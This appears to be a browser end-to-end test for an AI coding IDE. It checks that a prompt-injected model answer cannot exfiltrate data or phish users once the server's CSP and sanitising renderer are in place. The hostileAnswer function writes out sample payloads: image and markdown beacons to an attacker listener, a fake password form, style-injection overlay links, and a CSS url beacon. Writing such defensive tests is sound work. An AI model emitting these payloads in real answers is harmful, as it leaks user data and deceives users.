// @vitest-environment node
// A prompt-injected model answers with beacons and a phishing form: in real Chromium, against the
// real server (with its CSP) and a scripted drone, the answer streams and renders, yet nothing
// reaches the attacker's listener, no form or password box or style survives, and the app itself
// still runs under the policy (scripts, CodeMirror's injected styles, the Socket.IO WebSocket, the
// account page where the browser revokes another sign-in and logging out ends its own).
import { createHash } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import type { AgentEvent, FileRequest } from "@gadget/protocol";
import { startTestServer, uniqueName } from "@gadget/server/testing";
import { type Browser, buildApp, launchBrowser, screenshot } from "@gadget/testkit/browser";
import { registerDrone, ScriptedDrone, setupWorkspace, signup } from "@gadget/testkit/wire";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from "vitest";
import { webDir } from "../paths.ts";

type GadgetServer = Awaited<ReturnType<typeof startTestServer>>;
type User = Awaited<ReturnType<typeof signup>>;
type Workspace = Awaited<ReturnType<typeof setupWorkspace>>;

/** What the page may report about the policy, collected before any app script runs. */
interface Violation {
  directive: string;
  blocked: string;
  source: string;
}

const readme = "# Demo\n\nA project to open in the editor.\n";

let scratch: string;
let server: GadgetServer;
let attacker: Server;
/** Every request that reached the attacker's listener: the beacons this test must not see. */
const hits: string[] = [];
let attackerUrl: string;
let user: User;
let workspace: Workspace;
let drone: ScriptedDrone;
let browser: Browser;
let page: Page;
const consoleErrors: string[] = [];
const pageErrors: string[] = [];
const webSockets: string[] = [];

/** The model's answer: every way the review found to send data out or phish from it. */
function hostileAnswer(): string {
  return [
    "Here is the summary you asked for.",
    "",
    `<img src="${attackerUrl}/beacon?x=1">`,
    "",
    `![a](${attackerUrl}/md-beacon)`,
    "",
    `<form action="${attackerUrl}/phish"><input type="password" name="password"><button>Sign in</button></form>`,
    "",
    '[x](https://a.example/" style="position:fixed;inset:0;background:red)',
    "",
    '[y](https://a.example/"style="position:fixed;inset:0;z-index:99;background:red)',
    "",
    `<p style="position:fixed;inset:0;background:url(${attackerUrl}/css-beacon)">Session expired</p>`,
    "",
    "End of the answer.",
  ].join("\n");
}

/**
 * The violations the init script collected on the current page: none at all, zod's eval probe
 * included (the app's entry turns zod's JIT off, see src/zod-jitless.ts).
 */
async function violations(): Promise<Violation[]> {
  return page.evaluate(
    () => (window as unknown as { cspViolations?: Violation[] }).cspViolations ?? [],
  );
}

beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "gadget-web-hostile-"));
  const outDir = path.join(scratch, "web");
  await buildApp(webDir, outDir);
  attacker = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "content-type": "image/gif" });
    response.end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;

  server = await startTestServer(
    { mongoUrl: inject("mongoUrl"), redisUrl: inject("redisUrl"), webDir: outDir },
    uniqueName("web_hostile_answer"),
  );
  user = await signup(server.url, "hostile");
  workspace = await setupWorkspace(user);
  const registered = await registerDrone(user, { name: "scripted-laptop" });
  drone = await ScriptedDrone.connect({
    url: server.url,
    droneId: registered.droneId,
    credential: registered.credential,
    workspaces: [workspace.projectSlug],
    // One file, so the project page opens CodeMirror.
    onFileRequest: (request: FileRequest) => {
      if (request.op === "list") {
        const entry = { name: "README.md", path: "README.md", type: "file" as const };
        return { ok: true, result: { entries: [{ ...entry, size: readme.length }] } };
      }
      if (request.op === "read" && request.path === "README.md") {
        const sha = createHash("sha1").update(readme).digest("hex");
        return { ok: true, result: { path: "README.md", content: readme, sha } };
      }
      return { ok: false, error: { code: "not_found", message: `${request.path} not found` } };
    },
  });

  browser = await launchBrowser();
  page = browser.page;
  page.setDefaultTimeout(20_000);
  // Runs before the page's own scripts (injected by the browser, so the CSP does not apply).
  await browser.context.addInitScript(() => {
    const seen: Violation[] = [];
    (window as unknown as { cspViolations: Violation[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        source: event.sourceFile,
      });
    });
  });
  page.on("console", (message) => {
    if (message.type() === "error") consoleErrors.push(message.text());
  });
  page.on("pageerror", (error) => pageErrors.push(error.message));
  page.on("websocket", (socket) => webSockets.push(socket.url()));
});

afterAll(async () => {
  drone?.close();
  await browser?.close();
  await server?.context.models.User.db.dropDatabase();
  await server?.close();
  await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

afterEach(async (context) => {
  if (context.task.result?.state === "fail" && page) {
    await screenshot(page, `failed-hostile-${context.task.name.slice(0, 30).replace(/\W+/g, "-")}`);
  }
});

describe("a hostile model answer in the browser", () => {
  it("serves the IDE with a CSP, nosniff, no framing and no referrer, and the app runs under it", async () => {
    const response = await page.goto(`${server.url}/`);
    const headers = response?.headers() ?? {};
    expect(headers["content-security-policy"]).toContain("default-src 'self'");
    expect(headers["content-security-policy"]).toContain("img-src 'self' data:");
    expect(headers["content-security-policy"]).toContain("script-src 'self'");
    expect(headers["content-security-policy"]).toContain("form-action 'none'");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["x-frame-options"]).toBe("DENY");
    expect(headers["referrer-policy"]).toBe("no-referrer");

    await page.getByRole("heading", { name: "Log in" }).waitFor();
    await page.getByLabel("Email").fill(user.email);
    await page.getByLabel("Password").fill("correct horse battery");
    await page.getByRole("button", { name: "Log in" }).click();
    await page.getByRole("link", { name: "Projects", exact: true }).waitFor();
    // The stylesheet applied: the page is laid out by its own CSS, not the browser's defaults.
    const margin = await page.evaluate(() => getComputedStyle(document.body).margin);
    expect(margin).toBe("0px");
  });

  it("streams and renders the answer, and nothing reaches the attacker's listener", async () => {
    await page.goto(
      `${server.url}/projects/${workspace.projectId}/sessions/${workspace.sessionId}`,
    );
    await page.getByText("No turns yet.").waitFor();
    const prompt = "Summarise the README";
    const box = page.getByRole("textbox", { name: "Prompt" });
    await box.fill(prompt);
    await box.press("Enter");
    const order = await drone.nextWorkOrder(20_000);

    // The answer streams in pieces (each rendered on its way), then arrives whole.
    const answer = hostileAnswer();
    const pieces = answer.match(/[\s\S]{1,60}/g) ?? [];
    for (const text of pieces) {
      await drone.stream(order.turnId, [{ type: "token", data: { text } }]);
    }
    const ending: AgentEvent[] = [
      { type: "response", data: { message: answer } },
      { type: "done", data: { reason: "completed", passes: 1, totalCost: 0 } },
    ];
    await drone.stream(order.turnId, ending);

    const turn = page.locator("article.turn", {
      has: page.locator(".prompt-bubble", { hasText: prompt }),
    });
    await turn.locator(".status-line[data-status=completed]").waitFor();
    const rendered = turn.locator(".answer");
    await rendered.getByText("End of the answer.").waitFor();
    // Long enough for any image, stylesheet or form request the page might have started.
    await page.waitForTimeout(1_000);
    expect(hits).toEqual([]);

    // Nothing to phish with, nothing styled by the model, nothing that loads.
    const forbidden = "form, input, button, textarea, select, style, iframe, object, embed, img";
    expect(await rendered.locator(forbidden).count()).toBe(0);
    expect(await rendered.locator("[style]").count()).toBe(0);
    expect(await page.locator("input[type=password]").count()).toBe(0);
    // The images are links the user may choose to open, not requests made for them.
    const mdImage = rendered.getByRole("link", { name: "image: a" });
    expect(await mdImage.getAttribute("href")).toBe(`${attackerUrl}/md-beacon`);
    expect(await mdImage.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    const htmlImage = rendered.getByRole("link", { name: `image: ${attackerUrl}/beacon?x=1` });
    expect(await htmlImage.getAttribute("target")).toBe("_blank");
    // The quote-in-address links stay inside their href; no overlay covers the page.
    const injected = rendered.getByRole("link", { name: "y", exact: true });
    expect(await injected.getAttribute("href")).toBe(
      "https://a.example/%22style=%22position:fixed;inset:0;z-index:99;background:red",
    );
    const covering = await page.evaluate(() => {
      const element = document.elementFromPoint(10, window.innerHeight / 2);
      return element?.closest(".answer") ? getComputedStyle(element).position : null;
    });
    expect(covering).not.toBe("fixed");
    await rendered.scrollIntoViewIfNeeded();
    await screenshot(page, "hostile-answer");

    // The answer came live over the same-origin WebSocket, which the policy allows.
    expect(webSockets.some((url) => /\/socket\.io\/.*transport=websocket/.test(url))).toBe(true);
    expect(await violations()).toEqual([]);
  }, 60_000);

  it("keeps CodeMirror's injected styles working under the policy", async () => {
    await page.goto(`${server.url}/projects/${workspace.projectId}`);
    const tree = page.getByRole("navigation", { name: "Files" });
    await tree.getByRole("button", { name: "README.md" }).click();
    const editor = page.locator(".cm-editor");
    await editor.locator(".cm-content").getByText("A project to open in the editor.").waitFor();
    // `display: flex` comes only from CodeMirror's base theme, in the <style> it adds at run time.
    expect(await editor.evaluate((element) => getComputedStyle(element).display)).toBe("flex");
    expect(await violations()).toEqual([]);
    expect(
      consoleErrors.filter((text) => /Content Security Policy|Refused to/i.test(text)),
    ).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(hits).toEqual([]);
  }, 60_000);

  // Last: it ends both of the user's sign-ins (the test's own and the browser's).
  it("lists the browser's sign-ins, revokes another one, and logging out ends its own", async () => {
    await page.goto(`${server.url}/projects`);
    await page.getByRole("link", { name: "hostile", exact: true }).click();
    await page.getByRole("heading", { name: "Account" }).waitFor();
    // The test's own signup and the browser's login.
    const rows = page.locator("table.table tbody tr");
    await expect.poll(() => rows.count()).toBe(2);
    const here = rows.filter({ hasText: "this browser" });
    expect(await here.count()).toBe(1);
    // Made when the browser logged in, before the tests above (seconds, on a loaded machine).
    expect(await here.textContent()).toMatch(
      /(just now|\d+ s ago).*this browser.*(just now|\d+ s ago).*in \d+ days/,
    );
    expect((await user.get("/api/me")).status).toBe(200);

    await rows
      .filter({ hasNotText: "this browser" })
      .getByRole("button", { name: "Revoke", exact: true })
      .click();
    await expect.poll(() => rows.count()).toBe(1);
    // The revoked sign-in's token no longer works; this browser's still does.
    expect((await user.get("/api/me")).status).toBe(401);
    await screenshot(page, "account-sign-ins");
    expect(await violations()).toEqual([]);

    const token = await page.evaluate(() => localStorage.getItem("gadget.token"));
    expect(token).toBeTruthy();
    const asBrowser = () =>
      fetch(`${server.url}/api/me`, { headers: { authorization: `Bearer ${token}` } }).then(
        (response) => response.status,
      );
    expect(await asBrowser()).toBe(200);
    await page.getByRole("button", { name: "Log out", exact: true }).click();
    await page.getByRole("heading", { name: "Log in" }).waitFor();
    await expect.poll(asBrowser).toBe(401);
    expect(pageErrors).toEqual([]);
  }, 60_000);
});
